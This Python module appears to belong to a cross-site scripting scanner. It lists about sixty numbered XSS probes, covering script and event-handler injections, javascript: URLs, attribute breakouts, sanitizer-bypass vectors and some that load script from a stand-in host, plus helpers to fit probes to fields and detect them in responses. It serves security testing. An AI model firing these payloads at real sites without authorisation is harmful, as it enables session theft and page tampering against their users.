"""Sixty texts that would run in a page, or change what it is made of, wherever it does not write them as text.

Each bears a number: as `q7q`, by which it is found again on a page, and in what it would do. Whatever it would
make of the page has the id or the attribute `xss`, calls `xss(7)`, or is what no page of ours has: xss_reader.py.
"""

import re
from collections.abc import Sequence

# From short to long: a field takes those that fit into it.
PROBES: Sequence[str] = sorted(
    (
        # Elements, where text is expected.
        "<b id=xss>",
        "<xss>",
        "<b/id=xss>",
        "<B ID=xss>",
        "<base href=//xss/>",
        "<svg onload=xss({n})>",
        "<script>xss({n})</script>",
        "<ScRiPt>xss({n})</sCrIpT>",
        "<script/x>xss({n})</script>",
        "<scr<script>ipt>xss({n})</script>",
        "<script src=//xss/{n}></script>",
        "<script src=data:,xss({n})></script>",
        "<img src=x onerror=xss({n})>",
        "<img src=x onerror='xss({n})'>",
        '<img src="x" onerror="xss({n})">',
        "<img/src='x'/onerror=xss({n})>",
        "<img src=x onerror=xss({n})//",
        "<IMG SRC=x ONERROR=&#120;ss({n})>",
        "<body onload=xss({n})>",
        "<input autofocus onfocus=xss({n})>",
        "<select autofocus onfocus=xss({n})>",
        "<textarea autofocus onfocus=xss({n})>",
        "<details open ontoggle=xss({n})>x</details>",
        "<video><source onerror=xss({n})></video>",
        "<audio src=x onerror=xss({n})>",
        "<marquee onstart=xss({n})>x</marquee>",
        "<iframe src=javascript:xss({n})>",
        "<iframe srcdoc='<script>parent.xss({n})</script>'>",
        "<object data=javascript:xss({n})>",
        "<embed src=javascript:xss({n})>",
        "<a href=javascript:xss({n}) id=xss>x</a>",
        "<a href='java&#9;script:xss({n})' id=xss>x</a>",
        "<form action=javascript:xss({n}) id=xss><button>x</form>",
        "<meta http-equiv=refresh content='0;url=//xss/{n}'>",
        "<link rel=stylesheet href=//xss/{n}>",
        "<style>*{{background:url(//xss/{n})}}</style>",
        "<style>@import'//xss/{n}';</style>",
        "<svg><script>xss({n})</script></svg>",
        "<svg><animate onbegin=xss({n}) attributeName=x>",
        "<math><mi xlink:href=javascript:xss({n}) id=xss>x</mi></math>",
        "<math><mtext><table><mglyph><style><img src=x onerror=xss({n})>",
        "<noscript><p title='</noscript><img src=x onerror=xss({n})>'>",
        "<template id=xss><img src=x onerror=xss({n})></template>",
        "<div hx-get=//xss/{n} hx-trigger=load id=xss>x</div>",
        "<div hx-on:click=xss({n}) id=xss>x</div>",
        # Out of what they stand in: an attribute, a comment, a text that is not read as elements.
        '"><b id=xss>',
        "'><b id=xss>",
        '" onmouseover=xss({n}) xss="',
        "' onmouseover=xss({n}) xss='",
        "` onmouseover=xss({n}) xss=`",
        " onmouseover=xss({n}) xss=",
        "--><b id=xss><!--",
        "</title><b id=xss>",
        "</textarea><b id=xss>",
        "</script><script>xss({n})</script>",
        "</option></select><b id=xss>",
        # In other clothes.
        "\\u003cb id=xss\\u003e<b\tid=xss>",
        "%3Cb id=xss%3E<b\nid=xss>",
        "+ADw-script+AD4-xss({n})+ADw-/script+AD4-",
        # An address.
        "javascript:xss({n})//",
    ),
    key=len,
)
OF_AN_ADDRESS = "javascript:xss({n})//"
_FOUND = re.compile(r"q(\d+)q")


def probe(kind: int, number: int) -> str:
    """The probe of that kind with its number, which stands at the end where the beginning matters."""
    text, mark = PROBES[kind].format(n=number), f"q{number}q"
    return text + mark if PROBES[kind] == OF_AN_ADDRESS else mark + text


def fitting(length: int | None, largest: int) -> list[int]:
    """The kinds of probes that fit into a field of so many characters, whatever their number up to `largest`."""
    return [kind for kind in range(len(PROBES)) if length is None or len(probe(kind, largest)) <= length]


def numbers_in(text: str) -> set[int]:
    return {int(number) for number in _FOUND.findall(text)}
